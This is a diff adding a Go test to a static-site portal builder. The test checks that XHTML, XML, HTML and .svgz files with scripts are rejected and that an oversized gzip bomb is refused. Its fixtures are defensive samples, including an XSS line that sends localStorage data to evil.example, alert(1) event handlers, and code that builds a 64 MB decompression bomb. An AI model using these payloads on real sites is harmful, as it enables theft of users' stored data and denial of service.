@@ -2,6 +2,7 @@ package main
 
 import (
 	"bytes"
+	"compress/gzip"
 	"image"
 	"image/gif"
 	"image/jpeg"
@@ -174,5 +175,89 @@ func TestSVGThatRunsScriptIsAnError(t *testing.T) {
 	}
 	if _, err := os.Stat(filepath.Join(dir, "public", "kuvat", "kaavio.svg")); !os.IsNotExist(err) {
 		t.Errorf("build published kuvat/kaavio.svg (%v)", err)
+	}
+}
+
+// TestStaticDocumentsThatRunScripts: an XHTML page, an XML file, an HTML
+// page and a compressed SVG image (.svgz) under static/ are documents a
+// browser runs scripts in when opened by their own address, as an SVG is,
+// so one that holds a script is an error, at its line and column (an
+// .svgz, which no editor opens as it is, at the file); before 2026-12-07
+// only .svg was looked into. An XML file's own elements (a data file's
+// <object>) are not a browser's, and an .svgz that unpacks past 16 MB (a
+// gzip bomb, here 64 MB of zeros in 64 kB; one of 2 GB in 2 MB took check
+// 0.31 s and 64 MB of memory, by hand on 2026-12-07 10:41 UTC) is an error
+// that says so, unpacked no further than that.
+func TestStaticDocumentsThatRunScripts(t *testing.T) {
+	t.Parallel()
+	gz := func(s string) string {
+		var b bytes.Buffer
+		w, _ := gzip.NewWriterLevel(&b, gzip.BestCompression)
+		w.Write([]byte(s))
+		w.Close()
+		return b.String()
+	}
+	var bomb bytes.Buffer
+	w, _ := gzip.NewWriterLevel(&bomb, gzip.BestCompression)
+	zeros := make([]byte, 1<<20)
+	for range 64 {
+		w.Write(zeros)
+	}
+	w.Close()
+	const xhtml = "<?xml version=\"1.0\"?>\n<html xmlns=\"http://www.w3.org/1999/xhtml\"><body>\n"
+	cases := []struct {
+		file, data string
+		fi, en     string // "": no error
+	}{
+		{"liitteet/raportti.xhtml", xhtml + "<p>Teksti</p>\n  <script>fetch('https://evil.example/?'+localStorage.getItem('helminauha'))</script></body></html>\n",
+			"content/static/liitteet/raportti.xhtml:4:3: tiedostossa on <script>, jonka selain suorittaa, kun tiedosto avataan: portaalin osoitteessa se pääsisi käsiksi siihen, mitä lukija on tallentanut selaimeensa (oma helminauha, työpohjien vastaukset), joten tiedostoa ei julkaista: poista se tiedostosta tekstieditorissa, tai julkaise sisältö sivuna (Markdown) tai PDF-tiedostona",
+			"content/static/liitteet/raportti.xhtml:4:3: the file holds <script>, which a browser runs when the file is opened: at the portal's address it could reach what readers keep in their browsers (their own necklace, worksheet answers), so the file is not published: remove it from the file in a text editor, or publish the content as a page (Markdown) or a PDF file"},
+		{"data/tiedot.xml", "<?xml version=\"1.0\"?>\n<tiedot>\n<h:img xmlns:h=\"http://www.w3.org/1999/xhtml\" src=\"x\" onerror=\"alert(1)\"/></tiedot>\n",
+			"content/static/data/tiedot.xml:3:55: tiedostossa on onerror, jonka selain",
+			"content/static/data/tiedot.xml:3:55: the file holds onerror, which a browser"},
+		{"liitteet/vanha.html", "<!DOCTYPE html>\n<p>Hei</p>\n<button onclick=\"alert(1)\">Paina</button>\n",
+			"content/static/liitteet/vanha.html:3:9: tiedostossa on onclick,",
+			"content/static/liitteet/vanha.html:3:9: the file holds onclick,"},
+		{"kuvat/kaavio.svgz", gz("<svg xmlns=\"http://www.w3.org/2000/svg\">\n<script>alert(1)</script></svg>\n"),
+			"content/static/kuvat/kaavio.svgz: pakatussa SVG-kuvassa (.svgz) on <script>, jonka selain suorittaa, kun kuva avataan omaan välilehteensä: portaalin osoitteessa se pääsisi käsiksi siihen, mitä lukija on tallentanut selaimeensa (oma helminauha, työpohjien vastaukset), joten kuvaa ei julkaista: pura kuva (gunzip), poista se kuvasta tekstieditorissa ja tallenna kuva .svg-tiedostona, tai tallenna kuva PNG-muodossa",
+			"content/static/kuvat/kaavio.svgz: the compressed SVG image (.svgz) holds <script>, which a browser runs when the image is opened in a tab of its own: at the portal's address it could reach what readers keep in their browsers (their own necklace, worksheet answers), so the image is not published: unpack the image (gunzip), remove it from the image in a text editor and save the image as .svg, or save the image as PNG"},
+		{"kuvat/pommi.svgz", bomb.String(),
+			"content/static/kuvat/pommi.svgz: pakattu SVG-kuva (.svgz) purkautuu yli 16 megatavuksi, joten sitä ei voi tarkistaa eikä se avautuisi lukijan puhelimessa: tallenna kuva pienempänä tai PNG-muodossa",
+			"content/static/kuvat/pommi.svgz: the compressed SVG image (.svgz) unpacks to more than 16 MB, so it cannot be checked and would not open on a reader's phone: save the image smaller or as PNG"},
+		// What runs nothing: a drawing, a feed, a data file whose own
+		// vocabulary has an <object>, a page that only tells of scripts.
+		{"kuvat/kuvake.svgz", gz("<svg xmlns=\"http://www.w3.org/2000/svg\"><rect width=\"1\" height=\"1\"/></svg>"), "", ""},
+		{"syote.xml", "<?xml version=\"1.0\"?>\n<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>Uutiset &amp; tiedotteet</title><entry><title>&#228;l&#228; kirjoita &lt;script&gt;</title></entry></feed>\n", "", ""},
+		{"data/kohteet.xml", "<?xml version=\"1.0\"?>\n<kohteet><object id=\"1\"><handler>Sali</handler></object></kohteet>\n", "", ""},
+		{"liitteet/ohje.xhtml", xhtml + "<p>Älä lisää &lt;script&gt;-elementtiä.</p><a href=\"https://thl.fi/\">THL</a></body></html>\n", "", ""},
+	}
+	dir := portal(t)
+	for _, c := range cases {
+		write(t, filepath.Join(dir, "content", "static", filepath.FromSlash(c.file)), c.data)
+	}
+	for _, lang := range []string{"fi", "en"} {
+		code, out, _ := helminauha(t, dir, "check", "--lang", lang)
+		if code != 1 {
+			t.Errorf("check --lang %s: exit status %d, want 1\n%s", lang, code, out)
+		}
+		for _, c := range cases {
+			want := map[string]string{"fi": c.fi, "en": c.en}[lang]
+			if want == "" {
+				if strings.Contains(out, "content/static/"+c.file+":") {
+					t.Errorf("check --lang %s tells of %s, which runs nothing:\n%s", lang, c.file, out)
+				}
+				continue
+			}
+			if lines(out, want) != 1 {
+				t.Errorf("check --lang %s does not say, once,\n%s\nit says\n%s", lang, want, out)
+			}
+		}
+	}
+	code, out, errOut := helminauha(t, dir, "build")
+	if code != 1 {
+		t.Errorf("build: exit status %d, want 1\n%s%s", code, out, errOut)
+	}
+	if _, err := os.Stat(filepath.Join(dir, "public", "liitteet", "raportti.xhtml")); !os.IsNotExist(err) {
+		t.Errorf("build published liitteet/raportti.xhtml (%v)", err)
 	}
 }
